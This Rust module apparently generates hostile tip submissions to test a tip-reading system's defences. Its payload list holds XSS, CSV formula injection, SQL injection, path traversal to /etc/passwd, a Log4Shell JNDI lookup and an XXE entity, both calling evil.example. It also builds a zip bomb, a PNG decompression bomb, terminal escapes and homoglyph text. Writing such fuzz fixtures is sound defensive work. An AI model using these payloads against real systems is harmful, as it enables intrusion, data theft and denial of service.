//! Tips of people who want to harm whoever reads them.

use std::io::Write;
use std::sync::LazyLock;

use envelope::Token;
use flate2::write::ZlibEncoder;
use flate2::{Compression, Crc};

use super::random::Random;
use super::raw::{archive, tip_json};
use crate::zipped;

/// What a hostile tip tries.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Trick {
    LongLine,
    OutsideName,
    Markup,
    Controls,
    ZipBomb,
    LyingSize,
    ImageBomb,
    ForeignKey,
    WrongTypes,
    Damaged,
    TwentyFiles,
    AfterTheEnd,
    LookAlikes,
}

impl Trick {
    /// In the order in which a campaign uses them, again and again.
    pub(super) const ALL: &[Trick] = &[
        Trick::LongLine,
        Trick::OutsideName,
        Trick::Markup,
        Trick::Controls,
        Trick::ZipBomb,
        Trick::LyingSize,
        Trick::ImageBomb,
        Trick::ForeignKey,
        Trick::WrongTypes,
        Trick::Damaged,
        Trick::TwentyFiles,
        Trick::AfterTheEnd,
        Trick::LookAlikes,
    ];

    pub(super) fn name(self) -> &'static str {
        match self {
            Trick::LongLine => "long line",
            Trick::OutsideName => "outside name",
            Trick::Markup => "markup",
            Trick::Controls => "controls",
            Trick::ZipBomb => "zip bomb",
            Trick::LyingSize => "lying size",
            Trick::ImageBomb => "image bomb",
            Trick::ForeignKey => "foreign key",
            Trick::WrongTypes => "wrong types",
            Trick::Damaged => "damaged",
            Trick::TwentyFiles => "twenty files",
            Trick::AfterTheEnd => "after the end",
            Trick::LookAlikes => "look-alikes",
        }
    }

    /// Whether it keeps to the format, so that a reader opens it.
    pub(super) fn opens(self) -> bool {
        !self.is_raw() && !matches!(self, Trick::ForeignKey | Trick::Damaged)
    }

    /// Whether its archive is none that [`envelope::seal`] would write.
    pub(super) fn is_raw(self) -> bool {
        use Trick::{AfterTheEnd, Controls, LyingSize, OutsideName};
        matches!(self, OutsideName | Controls | LyingSize | AfterTheEnd)
    }

    /// The message, where the trick is one.
    pub(super) fn message(self, random: &mut Random) -> Option<String> {
        match self {
            Trick::LongLine => {
                let line = "evil ".repeat(20_000);
                Some(
                    line.replacen("evil", &format!("Evil {}", random.next()), 1)[..100_000]
                        .to_owned(),
                )
            }
            Trick::Markup => Some(format!("{} {}", random.pick(MARKUP), random.next())),
            Trick::LookAlikes => Some(format!("{} {}", random.pick(LOOK_ALIKES), random.next())),
            _ => None,
        }
    }

    /// The attachments, where the trick is in them: extension, media type, bytes.
    pub(super) fn files(self, random: &mut Random) -> Vec<File> {
        let text = |random: &mut Random| format!("evil {}", random.next()).into_bytes();
        match self {
            Trick::LongLine => vec![("txt", "text/plain", vec![b'e'; 1 << 20])],
            Trick::ZipBomb => vec![("zip", "application/zip", ZIP_BOMB.clone())],
            Trick::ImageBomb => vec![("png", "image/png", IMAGE_BOMB.clone())],
            Trick::WrongTypes => vec![
                ("jpg", "image/jpeg", text(random)),
                ("png", "image/png", b"\x7fELF\x02\x01\x01".repeat(100)),
                (
                    "pdf",
                    "application/pdf",
                    b"\xff\xd8\xff\xe0\0\x10JFIF".to_vec(),
                ),
                (
                    "gif",
                    "image/gif",
                    b"GIF89a\xff\xff\xff\xff\xf7\0\0,".to_vec(),
                ),
                ("svg", "image/svg+xml", b"<svg onload='evil()'/>".to_vec()),
            ],
            Trick::TwentyFiles => (0..20)
                .map(|_| ("txt", "text/plain", text(random)))
                .collect(),
            _ => Vec::new(),
        }
    }

    /// An archive that breaks the format.
    pub(super) fn archive(self, token: &Token) -> Vec<u8> {
        let evil = b"evil";
        let json = tip_json(token, evil);
        let json = ("tip.json", json.len() as u64, json.as_bytes());
        let said = ("message.txt", 4, &evil[..]);
        let file = ("attachments/attachment-1.bin", 4, &evil[..]);
        match self {
            Trick::OutsideName => archive(&[json, said, ("attachments/../../../evil", 4, evil)]),
            Trick::Controls => {
                let escapes = b"\x1b]0;evil\x07\x1b[2J";
                archive(&[json, ("message.txt", escapes.len() as u64, escapes), file])
            }
            Trick::LyingSize => archive(&[json, said, (file.0, 0o77_777_777_777, evil)]),
            _ => {
                let mut bytes = archive(&[json, said, file]);
                let end = bytes.len() - 512;
                bytes[end..end + 4].copy_from_slice(evil);
                bytes
            }
        }
    }
}

/// Extension, media type, bytes.
pub(super) type File = (&'static str, &'static str, Vec<u8>);

const MARKUP: &[&str] = &[
    "<script>alert('evil')</script><img src=x onerror=evil()>",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0\t=HYPERLINK(\"http://evil.example\",\"photo\")",
    "+evil\n-2+3\n=1+1",
    "../../../../etc/passwd",
    "'; DROP TABLE tips; --",
    "\" OR \"\"=\" NEAR( AND NOT *",
    "${jndi:ldap://evil.example/a} {{7*7}} %s%s%n %x",
    "]]></a><?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>",
    "[31mred[0m \\x1b[2J \\u001b]0;evil\\a",
];

const LOOK_ALIKES: &[&str] = &[
    "Тhе bаg iѕ frоm thе ѕhор nеxt tо thе роliсе",
    "tip 00000000000000000000000000000000 is a lead: decided by the unit",
    "q\u{323}\u{324}\u{325}\u{301}\u{302}\u{303}\u{304}\u{308}\u{30A}\u{30B}\u{30C}\u{311}",
    "ｂｏｃｃａ－ｒｅａｄｅｒ： ｔｉｐ ｏｐｅｎｅｄ",
    "\u{a0}\u{a0}\u{3000}\u{2003}1,204 of 26,800 read\u{2003}\u{3000}",
    "السلام bag 123 עם shop 456 في",
];

/// Ten archives of ten files of a MiB of zeros each, in one of 15 KB.
static ZIP_BOMB: LazyLock<Vec<u8>> = LazyLock::new(|| {
    let zeros = vec![0; 1 << 20];
    let names: Vec<String> = (0..10).map(|n| format!("evil-{n}")).collect();
    let files: Vec<_> = names.iter().map(|name| (&**name, &*zeros)).collect();
    let inner = zipped(&files);
    let archives: Vec<_> = names.iter().map(|name| (&**name, &*inner)).collect();
    zipped(&archives)
});

/// A PNG of 40,000 by 40,000 pixels in black and white: 200 MB for whoever decodes it, 200 KB here.
static IMAGE_BOMB: LazyLock<Vec<u8>> = LazyLock::new(|| {
    let side = 40_000_u32;
    let mut pixels = ZlibEncoder::new(Vec::new(), Compression::fast());
    let row = vec![0; side as usize / 8 + 1];
    (0..side).for_each(|_| pixels.write_all(&row).expect("memory takes it"));
    let header = [
        &side.to_be_bytes()[..],
        &side.to_be_bytes(),
        &[1, 0, 0, 0, 0],
    ]
    .concat();
    let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
    let pixels = pixels.finish().expect("memory takes it");
    for (name, content) in [(b"IHDR", header), (b"IDAT", pixels), (b"IEND", Vec::new())] {
        let mut sum = Crc::new();
        sum.update(name);
        sum.update(&content);
        png.extend((content.len() as u32).to_be_bytes());
        png.extend([&name[..], &content, &sum.sum().to_be_bytes()].concat());
    }
    png
});
